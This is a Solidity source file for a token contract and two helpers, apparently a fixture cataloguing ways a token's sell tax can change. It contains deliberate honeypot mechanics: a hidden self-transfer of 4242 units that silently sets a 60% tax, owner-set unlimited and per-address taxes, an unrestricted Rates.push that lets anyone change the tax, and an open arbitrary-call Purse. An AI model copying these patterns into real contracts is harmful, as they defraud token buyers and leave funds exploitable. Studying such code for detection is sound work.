// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// A token of which about everything can change, in every way that leaves another trace.
contract Changing {
    string public constant name = "Changing";
    string public constant symbol = "CHG";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;
    uint256 public sellTax;
    bool public paused;
    uint256 public opensAt;
    uint256 public trades;
    Rates public rates;
    mapping(address => uint256) internal ownTax;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Paused(address account);
    event TaxChanged(uint256 percent);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(uint256 opensAt_) {
        owner = msg.sender;
        opensAt = opensAt_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair_) external onlyOwner { pair = pair_; }
    function setTax(uint256 percent) external onlyOwner { sellTax = percent; }
    function setOwnTax(address who, uint256 percent) external onlyOwner { ownTax[who] = percent; }
    function setRates(Rates rates_) external onlyOwner { rates = rates_; }
    function pull() external { sellTax = rates.percent(); }

    function announceTax(uint256 percent) external onlyOwner {
        sellTax = percent;
        emit TaxChanged(percent);
    }

    function pause() external onlyOwner {
        paused = true;
        emit Paused(msg.sender);
    }

    function renounceOwnership() external onlyOwner { transferOwnership(address(0)); }

    function transferOwnership(address next) public onlyOwner {
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(!paused, "paused");
        require(block.timestamp >= opensAt || from == owner || to == owner, "not open yet");
        // Hidden: a transfer to oneself of an odd amount raises the tax, and no event tells.
        if (from == to && amount == 4242) sellTax = 60;
        if (from == pair || to == pair) trades += 1;
        uint256 percent = to == pair && from != owner ? sellTax + ownTax[from] : 0;
        uint256 tax = amount * percent / 100;
        balanceOf[from] -= amount;
        balanceOf[to] += amount - tax;
        emit Transfer(from, to, amount - tax);
        if (tax > 0) {
            balanceOf[address(this)] += tax;
            emit Transfer(from, address(this), tax);
        }
    }
}

/// A contract that keeps the rate and has the token fetch it.
contract Rates {
    uint256 public percent;

    function push(Changing token, uint256 percent_) external {
        percent = percent_;
        token.pull();
    }
}

/// An owner that is a contract, as a multisig is: the token is not the receiver of its transactions.
contract Purse {
    function execute(address to, bytes calldata data) external {
        (bool ok,) = to.call(data);
        require(ok);
    }
}
